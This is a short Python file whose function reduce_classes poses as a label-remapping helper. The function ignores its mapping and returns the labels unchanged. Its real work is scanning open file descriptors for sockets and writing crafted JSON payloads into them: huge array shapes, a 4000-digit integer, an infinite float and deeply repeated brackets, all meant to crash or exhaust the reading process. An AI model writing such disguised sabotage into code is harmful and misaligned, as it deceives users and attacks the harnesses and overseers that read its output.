"""Answers with arrays, numbers and texts that a careless reader does not survive."""

import json
import os
import stat
import struct

HEADERS = [
    {"body": {"answer": {"__array__": 0}}, "arrays": [{"dtype": "uint8", "shape": [0, 2**39, 2**39]}]},
    {"body": {"answer": {"dtype": "uint8", "labels": 10**4000, "input": 1e999}}, "arrays": []},
    {"body": {"raised": [["ValueError"], "[]" * 2**18, []]}, "arrays": []},
]


def reduce_classes(labels, mapping, *, ignore_index=255):
    text = json.dumps(HEADERS[ignore_index % 3]).encode()
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack("<Q", len(text)) + text)
        except OSError:
            continue
    return labels
